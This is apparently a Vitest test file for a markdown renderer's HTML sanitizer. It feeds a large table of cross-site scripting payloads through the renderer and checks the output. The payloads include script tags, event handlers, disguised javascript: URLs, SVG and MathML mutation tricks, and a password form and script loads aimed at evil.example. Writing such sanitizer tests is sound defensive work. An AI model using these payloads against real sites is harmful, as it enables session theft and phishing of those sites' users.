import { type DefaultTreeAdapterMap, parseFragment, serialize } from 'parse5';
import { describe, expect, it } from 'vitest';
import { renderMarkdown } from './markdown.ts';

type Node = DefaultTreeAdapterMap['node'];
type Element = DefaultTreeAdapterMap['element'];

/** Written out once more, so that a slip in the schema is seen here. */
const HARMLESS_ATTRIBUTES =
  /^(?:href|src|alt|title|id|class|rel|loading|decoding|width|height|align|start|open|tabindex|role|aria-label)$/;
const HARMLESS_ELEMENTS =
  /^(?:h[1-6]|p|div|span|a|img|ul|ol|li|pre|code|blockquote|table|thead|tbody|tr|th|td|b|i|em|strong|br|hr|details|summary|section|sup|sub|u)$/;

/** Parses an article as a browser does whose scripts are on. */
function parse(html: string) {
  return parseFragment(html, { scriptingEnabled: true });
}

function listNodes(node: Node): Node[] {
  return [node, ...('childNodes' in node ? node.childNodes.flatMap(listNodes) : [])];
}

function findHarm(html: string): string[] {
  const [, ...nodes] = listNodes(parse(html));
  return nodes.flatMap((node) => {
    if ('tagName' in node) return findHarmIn(node);
    return node.nodeName === '#text' ? [] : [node.nodeName];
  });
}

function findHarmIn({ tagName, namespaceURI, attrs }: Element): string[] {
  const isHarmless = HARMLESS_ELEMENTS.test(tagName) && namespaceURI === 'http://www.w3.org/1999/xhtml';
  const bad = attrs.filter(({ name, value }) => {
    if (!HARMLESS_ATTRIBUTES.test(name)) return true;
    if (name !== 'href' && name !== 'src') return false;
    const { protocol, host } = new URL(value, 'https://own.invalid');
    return !['http:', 'https:', 'mailto:'].includes(protocol) || host === 'evil.example';
  });
  return [...(isHarmless ? [] : [tagName]), ...bad.map(({ name, value }) => `${tagName} ${name}=${value}`)];
}

const ATTACKS: Record<string, string[]> = {
  'a script element': [
    '<script>alert(1)</script>',
    '<SCRIPT SRC=//evil.example/a.js></SCRIPT>',
    '<scr<script>ipt>alert(1)</script>',
    'text <script\n>alert(1)</script\n>',
    '<script>alert(1)',
  ],
  'an attribute that runs': [
    '<img src=/a.png onerror=alert(1)>',
    '<p onclick="alert(1)">a</p>',
    '<a href="/" ONMOUSEOVER = alert(1)>a</a>',
    '<img src="/a.png"/onload=alert(1)>',
    '<details open ontoggle=alert(1)><summary>a</summary>b</details>',
    '<b\x0confocus=alert(1) tabindex=1 autofocus>a</b>',
  ],
  'a javascript: address': [
    '[a](javascript:alert(1))',
    '[a](JaVaScRiPt:alert(1))',
    '<javascript:alert(1)>',
    '[a][b]\n\n[b]: javascript:alert(1)',
    '![a](javascript:alert(1))',
    '<a href="vbscript:alert(1)">a</a>',
  ],
  'a javascript: address in disguise': [
    '<a href="java\nscript:alert(1)">a</a>',
    '<a href="java&#9;script:alert(1)">a</a>',
    '<a href="&#1;javascript:alert(1)">a</a>',
    '<a href=" javascript:alert(1)">a</a>',
    '<a href="javascript&colon;alert(1)">a</a>',
    '[a](java&#10;script:alert(1))',
    '[a](&#x6A;avascript:alert(1))',
  ],
  'a data: address': [
    '[a](data:text/html,<script>alert(1)</script>)',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">a</a>',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  ],
  'the address of another host without its scheme': [
    '[a](//evil.example)',
    '<a href="/\\evil.example">a</a>',
    '<a href="/&#9;/evil.example">a</a>',
    '<a href="\\\\evil.example">a</a>',
    '<img src="//evil.example/a.png">',
  ],
  'a frame or a plug-in': [
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="https://evil.example/a.swf"><embed src="https://evil.example/a.swf"></object>',
    '<frameset><frame src="https://evil.example"></frameset>',
    '<video><source onerror=alert(1)></video>',
  ],
  SVG: [
    '<svg onload=alert(1)></svg>',
    '<svg><script>alert(1)</script></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text>a</text></a></svg>',
    '<svg><style><img src=x onerror=alert(1)></style></svg>',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  ],
  'MathML that changes when it is parsed again': [
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
    '<math><maction actiontype="statusline#https://evil.example" xlink:href="javascript:alert(1)">a</maction></math>',
  ],
  'a style': [
    '<style>@import "https://evil.example/a.css";</style>',
    '<p style="background:url(https://evil.example)">a</p>',
    '<link rel=stylesheet href="https://evil.example/a.css">',
    '<table background="https://evil.example/a.png"><tr><td>a</td></tr></table>',
  ],
  'a form': [
    '<form action="https://evil.example"><input name=password><button>Log in</button></form>',
    '<input autofocus onfocus=alert(1)>',
    '<button formaction="javascript:alert(1)">a</button>',
    '<select><option>a</option></select><textarea>b</textarea>',
    '- [ ] <input type="image" src="https://evil.example">',
  ],
  'a word to the browser about the page': [
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<link rel="prefetch" href="https://evil.example">',
    '<html manifest="/a"><head><title>a</title></head><body onload=alert(1)>b</body></html>',
  ],
  'markup hidden where it is not parsed at first': [
    '<template><script>alert(1)</script></template>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<p title="</p><img src=x onerror=alert(1)>">a</p>',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
    '<noembed><img src=x onerror=alert(1)></noembed><noframes><script>alert(1)</script></noframes>',
    '<textarea></textarea><script>alert(1)</script>',
    '<select><template><style></select><img src=x onerror=alert(1)>',
    'a <plaintext><img src=x onerror=alert(1)>',
  ],
  'a comment or CDATA': [
    '<!--><img src=x onerror=alert(1)>-->',
    '<!--[if IE]><script>alert(1)</script><![endif]-->',
    '<![CDATA[<script>alert(1)</script>]]>',
    '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "c">]>',
    '<!-- --!><script>alert(1)</script>',
  ],
  'code and tables that break out': [
    '```"><script>alert(1)</script>\na\n```',
    '```js\n</code></pre><script>alert(1)</script>\n```',
    '`</code><img src=x onerror=alert(1)>`',
    '| <img src=x onerror=alert(1)> |\n| --- |\n| <script>alert(1)</script> |',
    '## <img src=x onerror=alert(1)> "><script>alert(1)</script>',
    '## "onclick=alert(1) a="\n\n| a |\n| - |\n| b |',
  ],
};

describe('renderMarkdown under attack', () => {
  for (const [what, attacks] of Object.entries(ATTACKS)) {
    it.each(attacks)(`removes ${what}: %j`, (attack) => {
      const { html } = renderMarkdown(`Before.\n\n${attack}\n\nAfter.`);
      expect(findHarm(html)).toEqual([]);
      // Parsed once more it is the same, so that no parser downstream can be made to see something else.
      expect(serialize(parse(serialize(parse(html))))).toBe(serialize(parse(html)));
      expect(html).toContain('<p>Before.</p>');
    });
  }

  it('removes ids, classes and roles that belong to the page around the article', () => {
    const { html } = renderMarkdown('<p id="main" class="heading-anchor" name="body" role="alert">a</p>');
    expect(html).toBe('<p>a</p>');
  });

  it('keeps the text after an attack', () => {
    expect(renderMarkdown('<style>p {}</style>\n\n<script>a</script>\n\nAfter.').text).toBe('After.');
  });
});

describe('findHarm, the check of these tests,', () => {
  it.each([
    '<script></script>',
    '<p onclick="a">',
    '<a href="java\nscript:a">',
    '<a href="//evil.example">',
    '<p style="color: red">',
    '<!-- a -->',
    '<svg></svg>',
    '<form>',
  ])('finds the harm in %j', (html) => {
    expect(findHarm(html)).toHaveLength(1);
  });
});
